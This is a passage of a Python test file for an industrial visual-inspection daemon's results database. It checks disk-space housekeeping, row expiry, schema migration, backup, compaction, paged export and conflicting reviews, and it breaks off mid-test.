    files = {r["frame_id"]: r["evidence_frame"] for r in Record(record_url).results(camera="line2")}
    (tmp_path / "box2").rename(tmp_path / "box2-disk")  # box 2's disk: box 1 cannot see it
    box1 = RecordWriter(record_url, tmp_path / "box1" / "evidence", max_gb=30_000 / 1e9, keep_days=1).start()
    for i in range(6):
        box1.put(_result("line1", i), time.time_ns())
        time.sleep(0.05)
    box1.close()
    (tmp_path / "box2-disk").rename(tmp_path / "box2")
    line2 = {r["frame_id"]: r for r in Record(record_url).results(camera="line2")}
    assert sorted(line2) == [0, 1, 2, 3] and not any(r["evidence_removed"] for r in line2.values())
    assert box1.evidence_removed > 0 and box1.evidence_bytes <= 30_000  # its quota kept its own files
    assert all(Path(f).is_file() for f in files.values())
    again = RecordWriter(record_url, box2, keep_days=1).start()  # box 2 expires its rows, with their files
    again.put(_result("line2", 4), time.time_ns())
    again.close()
    assert sorted(r["frame_id"] for r in Record(record_url).results(camera="line2")) == [2, 3, 4]
    assert not Path(files[0]).exists() and not Path(files[1]).exists() and Path(files[2]).is_file()


def test_a_sqlite_record_on_a_full_disk_lets_its_oldest_results_go_and_records_every_new_one(
    tmp_path, monkeypatch, caplog
):
    """No record_keep_days (the default): the rows filled the disk in the end, and then every
    result went unrecorded, and on a Jetson the system's disk was full. A disk is simulated whose
    free space is what the SQLite file leaves of it; the evidence (none here) would go first."""
    from edge.record import housekeeping

    monkeypatch.setattr(housekeeping, "ROOM_BYTES", 64 * 1024)
    monkeypatch.setattr(housekeeping, "EXPIRE_ROWS", 100)
    url, second = f"sqlite:///{tmp_path / 'line.db'}", 10**9
    start = time.time_ns() - 10 * 86400 * second  # a result a second, ten days ago
    writer = RecordWriter(url, tmp_path / "ev").start()
    for i in range(200):
        writer.put(_result("c", i, "pass", ts_ns=start + i * second), start + i * second)
    writer.close()
    Record(url).review("c", 3, "defect")

    def used() -> int:  # the file and its write-ahead log
        return sum(p.stat().st_size for p in tmp_path.glob("line.db*") if p.is_file())

    floor, disk = 100_000, used() + 200_000  # room for about 400 more rows
    monkeypatch.setattr(housekeeping, "free_bytes", lambda _folder: disk - used())
    writer = RecordWriter(url, tmp_path / "ev", min_free_gb=floor / 1e9).start()
    with caplog.at_level(logging.ERROR, logger="edge.record.housekeeping"):
        for i in range(200, 3000):  # ten times what the disk holds; the last 20 of today
            at = start + i * second if i < 2980 else time.time_ns()
            writer.put(_result("c", i, "pass", ts_ns=at), at)
        writer.close()
    assert writer.recorded == 2800 and writer.unrecorded == 0
    assert disk - used() > floor - 100_000, used()  # within about a transaction of it
    frames = {r["frame_id"] for r in Record(url).results(limit=10_000)}
    gone = set(range(3000)) - frames
    assert gone == set(range(max(gone) + 1)) - {3}  # the oldest, but the reviewed one
    assert set(range(2980, 3000)) <= frames and len(frames) < 1000
    assert writer.removed_for_space == len(gone) == writer.metrics.results_removed_for_space._value.get()
    assert Record(url).removed() == {"up_to_ns": start + max(gone) * second, "for_space": len(gone),
                                     "past_keep_days": 0}  # fmt: skip
    assert "removed the oldest" in caplog.text and "Set record_keep_days" in caplog.text


def test_under_the_floor_the_last_days_rejects_keep_their_images_and_older_rows_leave_first(tmp_path, monkeypatch):
    """No quota and no record_keep_days (the defaults), the rows and the evidence on one disk.
    The rows grow by a day's worth a day while the oldest evidence leaves for them: once none
    was left, the rows that then left kept their room in the file, the disk stayed at its floor,
    and every reject from then on was recorded without its images. Now the images older than a
    day go first, then the results older than a day, whose room in the file goes back to the
    disk: the last day's rejects keep theirs. The disk is simulated: its free space is what the
    evidence and the SQLite file leave (its WAL is bounded apart, WAL_BOUND_BYTES)."""
    from edge.record import housekeeping

    monkeypatch.setattr(housekeeping, "ROOM_BYTES", 16 * 1024)
    monkeypatch.setattr(housekeeping, "EXPIRE_ROWS", 100)  # rows leave 100 at a time, not 5,000
    evidence, database, second = tmp_path / "ev", tmp_path / "line.db", 10**9
    url, start = f"sqlite:///{database}", time.time_ns() - 3 * 86400 * second  # three days ago
    writer = RecordWriter(url, evidence).start()
    for i in range(3000):  # four rejects with their images, then passes without, a second apart
        at = start + i * second
        result = _result("c", i, "fail" if i < 4 else "pass", ts_ns=at)
        result.frame = result.frame if i < 4 else None
        writer.put(result, at)
    writer.close()
    assert housekeeping.gives_space_back(writer.engine)
    floor, file_bytes = 100_000, database.stat().st_size

    def free(_folder: Path) -> int:
        return disk - database.stat().st_size - sum(p.stat().st_size for p in evidence.rglob("*") if p.is_file())

    disk = 0
    disk = floor + 30_000 - free(evidence)  # room for two of today's images over the floor
    monkeypatch.setattr(housekeeping, "free_bytes", free)
    writer = RecordWriter(url, evidence, min_free_gb=floor / 1e9).start()
    for i in range(3000, 3012):  # today's rejects: twelve images of about 12 kB, room for two
        _store(writer, _result("c", i))
    writer.close()
    rows = {r["frame_id"]: r for r in Record(url).results(limit=10_000)}
    today = [rows[i] for i in range(3000, 3012)]
    assert all(r["evidence"] is not None and not r["evidence_removed"] for r in today)
    assert all(Path(r["evidence_frame"]).is_file() for r in today)
    assert all(rows[i]["evidence_removed"] for i in range(4) if i in rows)  # the old images went first
    gone = set(range(3000)) - set(rows)
    assert gone == set(range(max(gone) + 1)) and 0 < len(gone) < 3000, len(gone)  # the oldest rows, not all
    assert writer.removed_for_space == len(gone) and not writer.house.low_disk
    assert database.stat().st_size < file_bytes and free(evidence) >= floor  # their room went to the disk


def _serve_check_lines(database: Path) -> list[str]:
    """What `vqad serve --check` says of a record."""
    from edge.preflight import _record_lines
    from edge.settings import EdgeConfig

    return _record_lines(EdgeConfig(record=str(database)))


def test_serve_check_says_how_long_the_records_disk_holds_its_rows(tmp_path, monkeypatch):
    """Without record_keep_days, `vqad serve --check` gives the days the disk holds at 30
    frames/s, or says that it is under its floor already; with it, nothing."""
    from edge import preflight
    from edge.record import housekeeping
    from edge.settings import EdgeConfig

    database = tmp_path / "line.db"
    day = preflight.ROW_BYTES * preflight.LINE_FPS * 86400
    monkeypatch.setattr(housekeeping, "free_bytes", lambda _folder: int(1e9 + 10 * day))
    assert any("in about 10 days, and then the oldest results leave" in line for line in _serve_check_lines(database))
    monkeypatch.setattr(housekeeping, "free_bytes", lambda _folder: int(0.5e9))
    assert any("under record_min_free_gb: the oldest results leave" in line for line in _serve_check_lines(database))
    kept = preflight._record_lines(EdgeConfig(record=str(database), record_keep_days=30))
    assert not any("record_keep_days is 0" in line for line in kept)


def test_a_sqlite_record_on_a_network_filesystem_is_warned_of(tmp_path, monkeypatch, caplog):
    """SQLite's locks do not hold on NFS or SMB, and its WAL's shared memory is not shared there:
    the daemon's start and `vqad serve --check` say so. The mount that holds a path is the
    innermost one, read from /proc/self/mountinfo (a space in its name is \\040)."""
    from edge.record import housekeeping

    mountinfo = "\n".join([
        "22 1 8:1 / / rw,relatime - ext4 /dev/mmcblk0p1 rw",
        "30 22 0:50 / /mnt/nas rw,relatime - nfs4 plant:/records rw",
        "31 30 0:51 / /mnt/nas/local rw,relatime - ext4 /dev/sda1 rw",
        "32 22 0:52 / /mnt/line\\040share rw,relatime - cifs //plant/line rw",
    ])  # fmt: skip
    assert housekeeping.mount_type(Path("/mnt/nas/line.db"), mountinfo) == "nfs4"
    assert housekeeping.mount_type(Path("/mnt/nas/local/line.db"), mountinfo) == "ext4"
    assert housekeeping.mount_type(Path("/mnt/nasty/line.db"), mountinfo) == "ext4"
    assert housekeeping.mount_type(Path("/mnt/line share/line.db"), mountinfo) == "cifs"
    database = tmp_path / "line.db"
    assert housekeeping.filesystem_type(database) not in housekeeping.NETWORK_FILESYSTEMS
    assert not any("network filesystem" in line for line in _serve_check_lines(database))
    monkeypatch.setattr(housekeeping, "filesystem_type", lambda _path: "nfs4")
    with caplog.at_level(logging.WARNING, logger="edge.record.writer"):
        RecordWriter(f"sqlite:///{database}").start().close()
    assert f"the SQLite record {database} is on a network filesystem (nfs4)" in caplog.text
    assert any(line.startswith("note: the SQLite record") for line in _serve_check_lines(database))


def _checkpointed_size(database: Path) -> int:
    """A SQLite file's size once its WAL is written into it."""
    conn = sqlite3.connect(database)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return database.stat().st_size


def test_expired_rows_give_their_space_back_to_the_disk_on_a_new_sqlite_record(tmp_path, monkeypatch):
    """record_keep_days set after months of rows: the rows left, but the file kept its size, so
    the disk stayed as full as before. A record created now gives the pages back (beyond
    ROOM_BYTES, GIVE_BACK_PAGES a pass); one created without incremental auto-vacuum keeps them."""
    from edge.record import housekeeping
    from edge.record.schema import migrate
    from edge.record.store import create_engine

    monkeypatch.setattr(housekeeping, "ROOM_BYTES", 64 * 1024)
    monkeypatch.setattr(housekeeping, "GIVE_BACK_PAGES", 400)  # 1.6 MB a pass: three passes or more
    monkeypatch.setattr(housekeeping, "EXPIRE_BACKLOG_S", 0.0)
    old_ns = time.time_ns() - 3 * 86400 * 10**9
    row = {"camera_id": "c", "ts_ns": old_ns, "published_ns": old_ns, "status": "ok", "decision": "pass",
           "score": 1.0, "threshold": 2.0, "model_name": "m", "regions": [], "batch_size": 1,
           "evidence_removed": False, "error": "x" * 200}  # fmt: skip
    sizes = {}
    for name, legacy in (("new.db", False), ("legacy.db", True)):
        database = tmp_path / name
        if legacy:  # tables made before the engine's first connection: auto-vacuum cannot be turned on
            sqlite3.connect(database).execute("CREATE TABLE made_before (x INTEGER)").connection.close()
        engine = create_engine(f"sqlite:///{database}")
        migrate(engine)
        with engine.begin() as conn:
            conn.execute(sa.insert(results), [{**row, "frame_id": i} for i in range(20_000)])
        engine.dispose()
        full = _checkpointed_size(database)
        writer = RecordWriter(f"sqlite:///{database}", tmp_path / "ev", keep_days=1).start()
        for i in range(6):  # a transaction each: housekeeping after each, the backlog's pass due at once
            writer.put(_result("c", 20_000 + i, "pass"), time.time_ns())
            wait_for(lambda n=i + 1, w=writer: w.recorded == n, 10)
        writer.close()
        sizes[name] = (full, _checkpointed_size(database), writer.expired)
    (new_full, new_after, new_expired), (old_full, old_after, old_expired) = sizes["new.db"], sizes["legacy.db"]
    assert new_expired == old_expired == 20_000 and new_full > 5e6 and old_full > 5e6, sizes
    assert new_after < 0.1 * new_full and old_after == old_full, sizes


def test_an_export_reads_the_record_a_page_at_a_time_each_result_once(tmp_path, record_url):
    """`vqad records --limit N` read all N at once: a million results held 2.1 GB, then failed
    with "too many SQL variables" (their reviews asked for by a million ids). Pages of results
    that share a capture time, as a camera without a clock sends, still give each result once."""
    engine = store.create_engine(record_url)
    store.migrate(engine)
    base = {"status": "ok", "score": 1.0, "threshold": 2.0, "model_name": "m", "regions": [], "batch_size": 1,
            "evidence_removed": False}  # fmt: skip
    rows = [{**base, "camera_id": f"c{i % 2}", "frame_id": i, "ts_ns": 1_000 + i // 4,
             "decision": ("pass", "fail", None)[i % 3]} for i in range(40)]  # fmt: skip
    with engine.begin() as conn:
        conn.execute(sa.insert(results), rows)
    engine.dispose()
    record = Record(record_url)
    for filters in ({}, {"camera": "c1"}, {"decision": "fail"}, {"camera": "c0", "decision": "pass"}):
        whole = [r["id"] for r in record.results(limit=100, **filters)]
        paged = [r["id"] for r in record.iter_results(100, page=3, **filters)]
        assert paged == whole and len(set(paged)) == len(paged) > 3, filters
        assert [r["id"] for r in record.iter_results(5, page=3, **filters)] == whole[:5]
    record.review("c1", 39, "defect")
    # More results in a page than SQLite (32,766) or PostgreSQL (65,535) takes parameters in one
    # statement: their reviews are asked for in chunks.
    with record.engine.begin() as conn:
        conn.execute(sa.insert(results), [{**base, "camera_id": "c2", "frame_id": i, "ts_ns": 2_000 + i,
                                           "decision": "pass"} for i in range(70_000)])  # fmt: skip
    many = list(record.iter_results(100_000, page=100_000))
    assert len(many) == 70_040 and [
        len(r["reviews"]) for r in many if r["camera_id"] == "c1" and r["frame_id"] == 39
    ] == [1]
    record.close()


def test_a_record_that_refuses_a_query_midway_is_one_line_and_exit_code_3(tmp_path):
    """A review while another program holds the record's write lock past its busy timeout (5 s)
    printed SQLAlchemy's traceback; an export cut off by a server gone did the same."""
    database = tmp_path / "line.db"
    writer = RecordWriter(f"sqlite:///{database}", tmp_path / "ev").start()
    writer.put(_result("c", 1), time.time_ns())
    writer.close()
    holder = sqlite3.connect(database, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # the write lock, held
    try:
        refused = run_vqad("review", database, "c", 1, "--verdict", "defect", check=False)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    said = refused.stderr.strip().splitlines()
    assert refused.returncode == 3 and len(said) == 1 and "Traceback" not in refused.stderr, refused.stderr
    assert f"the record at sqlite:///{database} refused: database is locked" in said[0]


def test_reading_a_sqlite_record_writes_nothing_to_it(tmp_path):
    """The dashboard and `vqad records` only read: opening the record wrote a page into its WAL,
    and on a full disk (when operators most need the page) they could not open it at all."""
    database = tmp_path / "line.db"
    writer = RecordWriter(f"sqlite:///{database}", tmp_path / "ev").start()
    writer.put(_result("c", 1), time.time_ns())
    writer.close()
    wal = database.with_name("line.db-wal")
    assert not wal.exists() or wal.stat().st_size == 0  # checkpointed at the writer's close
    record = Record(f"sqlite:///{database}", must_exist=True)
    assert [r["frame_id"] for r in record.results()] == [1]
    assert not wal.exists() or wal.stat().st_size == 0, wal.stat().st_size
    record.close()
    with sqlite3.connect(database) as conn:
        assert conn.execute("PRAGMA auto_vacuum").fetchone() == (2,)  # a new record still gives space back


def test_compacting_an_older_record_shrinks_it_and_turns_the_give_back_on(tmp_path, postgres_url):
    """A record made before incremental auto-vacuum: `vqad records PATH --compact` rewrites it
    without the room its removed rows left; a server's database is refused (exit 2)."""
    database = tmp_path / "line.db"
    sqlite3.connect(database).execute("CREATE TABLE made_before (x INTEGER)").connection.close()
    engine = sa.create_engine(f"sqlite:///{database}")
    metadata.create_all(engine)
    row = {"camera_id": "c", "ts_ns": 1, "status": "ok", "decision": "pass", "score": 1.0, "threshold": 2.0,
           "model_name": "m", "regions": [], "batch_size": 1, "evidence_removed": False,
           "error": "x" * 200}  # fmt: skip
    with engine.begin() as conn:
        conn.execute(sa.insert(meta).values(key="schema_version", value=str(SCHEMA_VERSION)))
        conn.execute(sa.insert(results), [{**row, "frame_id": i} for i in range(20_000)])
    with engine.begin() as conn:
        conn.execute(sa.delete(results).where(results.c.frame_id >= 10))
    engine.dispose()
    full = _checkpointed_size(database)
    assert any("--compact, with the daemon stopped" in line for line in _serve_check_lines(database))
    done = run_vqad("records", database, "--compact")
    with sqlite3.connect(database) as conn:
        assert conn.execute("PRAGMA auto_vacuum").fetchone() == (2,)  # incremental
    assert database.stat().st_size < full / 10 and "GB -> " in done.stdout, (full, done.stdout)
    assert len(Record(f"sqlite:///{database}").results(limit=100)) == 10
    assert not any("auto-vacuum" in line for line in _serve_check_lines(database))  # serve --check says no more
    refused = run_vqad("records", postgres_url, "--compact", check=False)
    assert refused.returncode == 2 and "only a SQLite record is compacted" in refused.stderr
    one_camera = run_vqad("records", database, "--compact", "--camera", "c", check=False)  # compacts no part
    assert one_camera.returncode == 2 and "takes no filter" in one_camera.stderr


def test_a_backup_while_the_writer_writes_is_one_checked_snapshot_in_one_file(tmp_path, postgres_url):
    """`vqad records PATH --backup DEST` while a daemon's writer commits twice a second: a `cp`
    of a SQLite file in WAL mode can tear; the backup is one snapshot, in one file that opens
    as a record, and replaces an earlier backup whole. A server's database is refused (exit 2)."""
    database = tmp_path / "line.db"
    url = f"sqlite:///{database}"
    writer = RecordWriter(url, tmp_path / "ev", pass_fraction=0.0).start()
    stop = threading.Event()

    def line() -> None:
        i = 0
        while not stop.is_set() and i < 20_000:
            writer.put(_result("c", i, decision="pass"), time.time_ns())
            i += 1
            time.sleep(0.001)

    feeder = threading.Thread(target=line)
    feeder.start()
    try:
        assert wait_for(lambda: writer.recorded >= 500, timeout=30)
        dest = tmp_path / "backups" / "line.db"
        dest.parent.mkdir()
        dest.write_bytes(b"yesterday's backup")
        done = run_vqad("records", database, "--backup", dest)
        recorded_after = writer.recorded
        into_folder = run_vqad("records", url, "--backup", dest.parent)
    finally:
        stop.set()
        feeder.join(timeout=10)
        writer.close()
    count = int(done.stdout.split("\n")[1].split(" results")[0])
    assert 500 <= count <= recorded_after and f"-> {dest} in" in done.stdout, done.stdout
    (timed,) = [p for p in dest.parent.iterdir() if p != dest]  # no -wal, no .partial beside them
    assert re.fullmatch(r"line-\d{8}T\d{6}Z\.db", timed.name) and f"-> {timed} in" in into_folder.stdout
    with sqlite3.connect(dest) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone() == ("delete",)
        ids = [r[0] for r in conn.execute("SELECT frame_id FROM results ORDER BY id")]
    assert ids == list(range(count))  # a snapshot: a prefix of the line's results, none torn
    assert len(Record(f"sqlite:///{dest}").results(limit=10)) == 10
    refused = run_vqad("records", postgres_url, "--backup", tmp_path / "pg.db", check=False)
    assert refused.returncode == 2 and "pg_dump" in refused.stderr
    nowhere = run_vqad("records", url, "--backup", tmp_path / "missing" / "line.db", check=False)
    assert nowhere.returncode == 3 and "there is no folder" in nowhere.stderr, nowhere.stderr
    no_folder = run_vqad("records", url, "--backup", f"{tmp_path / 'missing'}/", check=False)  # not a file "missing"
    assert no_folder.returncode == 3 and "there is no such folder" in no_folder.stderr, no_folder.stderr
    assert not (tmp_path / "missing").exists()
    itself = run_vqad("records", url, "--backup", database, check=False)
    assert itself.returncode == 3 and "the record itself" in itself.stderr


def test_a_housekeeping_that_fails_every_pass_neither_stops_the_writer_nor_floods_the_log(
    tmp_path, monkeypatch, caplog
):
    """Housekeeping runs after every transaction, twice a second at a line's rate: a fault that
    persists (a bug, a folder it may not read) is one line a minute, and the rows go on."""
    from edge.record import housekeeping

    def broken(_self) -> None:
        raise RuntimeError("not the database's fault")

    monkeypatch.setattr(housekeeping.Housekeeping, "_keep_free", broken)
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev", min_free_gb=1e-6).start()
    with caplog.at_level(logging.WARNING, logger="edge.record.housekeeping"):
        for i in range(8):  # a transaction each
            writer.put(_result("c", i, "pass"), time.time_ns())
            assert wait_for(lambda n=i + 1: writer.recorded == n, 10), i
        writer.close()
    failed = [r for r in caplog.records if "housekeeping failed" in r.getMessage()]
    assert writer.recorded == 8 and len(failed) == 1, [r.getMessage() for r in failed]
    assert writer.metrics.record_errors._value.get() >= 8


def test_expiry_with_more_old_rows_than_a_pass_takes_goes_on_soon(tmp_path, record_url, monkeypatch):
    """A pass removes at most EXPIRE_CHUNKS x EXPIRE_ROWS rows; with old rows left, the next
    pass follows after EXPIRE_BACKLOG_S, not EXPIRE_EVERY_S, so a fast line does not fall behind."""
    from edge.record import housekeeping

    day_ns = 86400 * 10**9
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    for i in range(6):
        writer.put(_result("c", i), time.time_ns() - 3 * day_ns)
    writer.close()
    monkeypatch.setattr(housekeeping, "EXPIRE_ROWS", 2)
    monkeypatch.setattr(housekeeping, "EXPIRE_CHUNKS", 1)
    monkeypatch.setattr(housekeeping, "EXPIRE_BACKLOG_S", 0.0)
    writer = RecordWriter(record_url, tmp_path / "ev", keep_days=1).start()
    for i in range(6, 10):  # a transaction each: housekeeping runs after each
        writer.put(_result("c", i), time.time_ns())
        wait_for(lambda n=i - 5: writer.recorded == n, 10)
    writer.close()
    assert writer.expired == 6 and sorted(r["frame_id"] for r in Record(record_url).results()) == [6, 7, 8, 9]


def test_a_record_of_an_older_schema_is_migrated_and_keeps_its_rows(tmp_path, record_url):
    """A version 2 record (before part_id, unfit, the reviews' result_id, seq, master, mask_sha256 and
    recovered_ns) is brought to the
    current version on first use, and gets the indexes it lacks. Its review of a frame id that a
    restarted sender used twice is given the result it was made after."""
    engine = sa.create_engine(record_url)
    with engine.begin() as conn:
        metadata.create_all(conn)
        conn.execute(sa.text("DROP INDEX ix_results_part"))
        conn.execute(sa.text("DROP INDEX ix_results_camera_decision_ts"))  # a record from before the index
        conn.execute(sa.text("DROP INDEX ix_reviews_result"))
        conn.execute(sa.text("DROP INDEX ix_results_run_seq"))
        conn.execute(sa.text("DROP INDEX ix_results_master_ts"))
        conn.execute(sa.text("ALTER TABLE results DROP COLUMN recovered_ns"))
        conn.execute(sa.text("ALTER TABLE results DROP COLUMN mask_sha256"))
        conn.execute(sa.text("ALTER TABLE results DROP COLUMN master"))
        conn.execute(sa.text("ALTER TABLE results DROP COLUMN seq"))
        conn.execute(sa.text("ALTER TABLE results DROP COLUMN part_id"))
        conn.execute(sa.text("ALTER TABLE results DROP COLUMN unfit"))
        conn.execute(sa.text("ALTER TABLE reviews DROP COLUMN result_id"))
        conn.execute(sa.insert(meta).values(key="schema_version", value="2"))
        conn.execute(sa.text("INSERT INTO results (camera_id, frame_id, ts_ns, published_ns, status, decision, "
                             "evidence_removed) VALUES ('old', 1, 5, 5, 'ok', 'fail', false), "
                             "('old', 1, 50, 50, 'ok', 'fail', false)"))  # fmt: skip
        conn.execute(sa.text("INSERT INTO reviews (camera_id, frame_id, verdict, created_ns) "
                             "VALUES ('old', 1, 'defect', 20)"))  # fmt: skip
    engine.dispose()
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    writer.put(Result(result_header("new", 2, 6, "error", 1.0, {"name": "m", "sha256": "0"}, part_id="SN-1")), 7)
    writer.put(_result("new", 3, ts_ns=8, health={"ok": False, "reasons": ["blurred"]}), 9)
    writer.close()
    record = Record(record_url)
    got = {(r["camera_id"], r["part_id"], r["unfit"]) for r in record.results()}
    assert got == {("old", None, None), ("new", "SN-1", None), ("new", None, "blurred")}
    old = sorted(record.results(camera="old"), key=lambda r: r["id"])
    assert [len(r["reviews"]) for r in old] == [1, 0]  # reviewed at 20: the result of 5, not of 50
    assert [r["seq"] for r in old] == [None, None]  # published before results were numbered
    with record.engine.connect() as conn:
        assert stored_version(conn) == SCHEMA_VERSION == 9
        indexes = {i["name"] for i in sa.inspect(conn).get_indexes("results")}
    assert {"ix_results_part", "ix_results_camera_decision_ts", "ix_results_run_seq", "ix_results_master_ts"} <= indexes


@contextmanager
def _another_making_the_schema(url: str):
    """Another process making the record's tables, its transaction open until the block ends."""
    if url.startswith("sqlite"):
        from sqlalchemy.dialects import sqlite

        con = sqlite3.connect(sa.make_url(url).database, isolation_level=None)
        con.execute("PRAGMA journal_mode=WAL")
        con.execute("BEGIN IMMEDIATE")
        for table in metadata.sorted_tables:
            con.execute(str(sa.schema.CreateTable(table).compile(dialect=sqlite.dialect())))
        con.execute("INSERT INTO meta (key, value) VALUES ('schema_version', ?)", (str(SCHEMA_VERSION),))
        try:
            yield
        finally:
            con.execute("COMMIT")
            con.close()
        return
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        transaction = conn.begin()
        metadata.create_all(conn)
        conn.execute(sa.insert(meta).values(key="schema_version", value=str(SCHEMA_VERSION)))
        try:
            yield
        finally:
            transaction.commit()
    engine.dispose()


def test_processes_that_open_a_new_record_at_the_same_moment_all_open_it(record_url):
    """A plant's boxes after a power cut, or a daemon and its dashboard at boot, each made the
    record's tables, and all but the first stopped: "duplicate key value violates unique
    constraint" on PostgreSQL, "table already exists" on SQLite."""
    opened: dict[str, Record] = {}
    with _another_making_the_schema(record_url):
        thread = threading.Thread(target=lambda: opened.update(record=Record(record_url)))
        thread.start()
        time.sleep(1.0)  # it finds no table, makes them, and waits for the other's
    thread.join(15)
    assert "record" in opened and opened["record"].results() == []
    assert _stored_version_of(record_url) == SCHEMA_VERSION


def _stored_version_of(url: str) -> int | None:
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        version = stored_version(conn)
    engine.dispose()
    return version


def test_a_record_a_newer_vqad_only_added_to_is_written_and_one_it_changed_is_refused(tmp_path, record_url, caplog):
    """Boxes upgraded one at a time share a plant's server record: the first box upgraded
    migrated it under the others, which refused it at their next start, and their lines stopped."""
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    _store(writer, _result("c", 0))
    writer.close()
    engine = sa.create_engine(record_url)
    with engine.begin() as conn:  # a newer vqad's step: a column more, which an older one leaves empty
        conn.execute(sa.text("ALTER TABLE results ADD COLUMN lot VARCHAR(64)"))
        conn.execute(sa.update(meta).where(meta.c.key == "schema_version").values(value=str(SCHEMA_VERSION + 1)))
    with caplog.at_level(logging.WARNING, logger="edge.record.schema"):
        writer = RecordWriter(record_url, tmp_path / "ev").start()
        _store(writer, _result("c", 1))
        writer.close()
    assert writer.recorded == 1 and [r["frame_id"] for r in Record(record_url).results()] == [1, 0]
    assert f"newer than this vqad's ({SCHEMA_VERSION}), which still writes it" in caplog.text
    with engine.begin() as conn:  # a newer vqad's step that changed what a row means
        conn.execute(sa.update(meta).where(meta.c.key == "oldest_writer").values(value=str(SCHEMA_VERSION + 1)))
    engine.dispose()
    with pytest.raises(ConfigError, match="upgrade vqad on this box"):
        Record(record_url)


def test_the_dashboards_daily_tally_counts_closed_days_once_and_reviews_at_once(tmp_path, record_url, monkeypatch):
    """The page asks every minute, from every page: closed days' decisions are counted once (and
    again after CLOSED_DAYS_REFRESH_S), today's and the reviews' each time its answer is older
    than FRESH_S or a review came from the page; the rows are Record.daily's."""
    from edge.dashboard import daily
    from edge.record.days import ProductionDays

    line_days = ProductionDays.parse("Asia/Kathmandu", "05:45")  # a day off UTC's by 5 h 45 min and its start
    today = line_days.start_ns(line_days.today())
    since = line_days.start_ns(line_days.today() - dt.timedelta(days=1))
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    writer.put(_result("a", 0, "fail", ts_ns=since + 5), today)
    writer.put(_result("a", 1, "fail", ts_ns=today + 5), today)
    writer.close()
    record = Record(record_url)
    expected = record.daily(since_ns=since, days=line_days)
    assert [r["day"] for r in expected] == [(line_days.today() - dt.timedelta(days=d)).isoformat() for d in (1, 0)]
    asked, count_decisions = [], record.daily_decisions

    def counted(camera=None, since_ns=None, until_ns=None, days=None):
        asked.append((since_ns, until_ns))
        return count_decisions(camera, since_ns, until_ns, days)

    record.daily_decisions = counted
    tally = daily.DailyTally(line_days)
    first = tally.rows(record, None, since)
    assert first == expected and [r["unreviewed"] for r in first] == [1, 1]
    assert asked == [(since, today - 1), (today, None)]
    assert tally.rows(record, None, since) is first and len(asked) == 2  # within FRESH_S: the same answer
    record.review("a", 0, "defect")
    tally.forget_answers()  # as the page's review does
    reviewed = tally.rows(record, None, since)
    assert (reviewed[0]["defect"], reviewed[0]["unreviewed"]) == (1, 0) and asked[2:] == [(today, None)]
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    writer.put(_result("a", 2, "pass", ts_ns=today + 6), today)
    writer.put(_result("a", 3, "pass", ts_ns=since + 6), today)  # late, into a closed day
    writer.close()
    monkeypatch.setattr(daily, "FRESH_S", 0.0)
    later = tally.rows(record, None, since)
    assert [r["results"] for r in later] == [1, 2] and asked[3:] == [(today, None)]  # the closed day as counted
    monkeypatch.setattr(daily, "CLOSED_DAYS_REFRESH_S", 0.0)
    assert tally.rows(record, None, since) == record.daily(since_ns=since, days=line_days)
    assert [r["results"] for r in tally.rows(record, None, since)] == [2, 2]
    assert tally.rows(record, "b", today) == [] and asked[-1] == (today, None)  # today alone: no closed days


def test_a_review_is_of_one_result_when_a_sender_used_its_frame_id_twice(tmp_path, record_url):
    """A restarted sender's frame 3 is the second result of camera c with that id: a review by
    camera and frame is of the newest, one given the record's result_id is of that result; each
    result shows its own reviews, the daily tally counts each once, and the export names both."""
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    day = 1_795_000_000 * 10**9 // (86400 * 10**9) * 86400 * 10**9
    writer.put(_result("c", 3, ts_ns=day + 10), day + 10)
    writer.put(_result("c", 3, ts_ns=day + 20), day + 20)  # the sender started again
    writer.close()
    record = Record(record_url)
    older, newer = sorted(record.results(camera="c"), key=lambda r: r["id"])
    record.review("c", 3, "false_reject", by="ann")
    assert record.review("c", 3, "defect", kind="crack", result_id=older["id"])["result_id"] == older["id"]
    with pytest.raises(DataError, match="with result_id"):
        record.review("c", 4, "defect", result_id=older["id"])  # another frame's result
    reviewed = {r["id"]: [v["verdict"] for v in r["reviews"]] for r in record.results(camera="c")}
    assert reviewed == {older["id"]: ["defect"], newer["id"]: ["false_reject"]}
    (row,) = record.daily()
    assert (row["fail"], row["defect"], row["false_reject"], row["unreviewed"]) == (2, 1, 1, 0)
    assert record.export_reviewed(tmp_path / "out") == {"test/crack": 1, "train/good": 1}
    names = sorted(p.name for p in (tmp_path / "out").rglob("*.png"))
    assert names == [f"c_3_{older['id']}.png", f"c_3_{newer['id']}.png"]


def test_a_review_made_after_the_newest_one_seen_is_refused_when_another_came_since(tmp_path, record_url):
    """Two people on one queue: a review names the newest review its person saw (0: none), and
    one recorded since is named back instead of being overwritten unseen."""
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    writer.put(_result("c", 3), time.time_ns())
    writer.close()
    record = Record(record_url)
    first = record.review("c", 3, "defect", kind="crack", by="ann", after_review_id=0)
    said = r"frame 3 was reviewed since you saw it: defect \(crack\) by ann at [-\d]{10} [:\d]{8} UTC; look again"
    with pytest.raises(ReviewedSinceError, match=said) as refused:
        record.review("c", 3, "false_reject", by="bob", after_review_id=0)
    assert [r["id"] for r in refused.value.newer] == [first["id"]]
    second = record.review("c", 3, "false_reject", by="bob", after_review_id=first["id"])  # seen, and chosen
    record.review("c", 3, "defect", by="cy")  # no review named: no check (vqad review)
    (result,) = record.results(camera="c")
    assert [(r["verdict"], r["reviewer"]) for r in result["reviews"]] == [
        ("defect", "ann"), ("false_reject", "bob"), ("defect", "cy"),
    ]  # fmt: skip
    with pytest.raises(ReviewedSinceError) as refused:
        record.review("c", 3, "defect", by="ann", after_review_id=second["id"])
    assert [r["reviewer"] for r in refused.value.newer] == ["cy"]
    for bad in (-1, "3", 1.5, True):
        with pytest.raises(DataError, match="an after_review_id is the id of the newest review seen"):
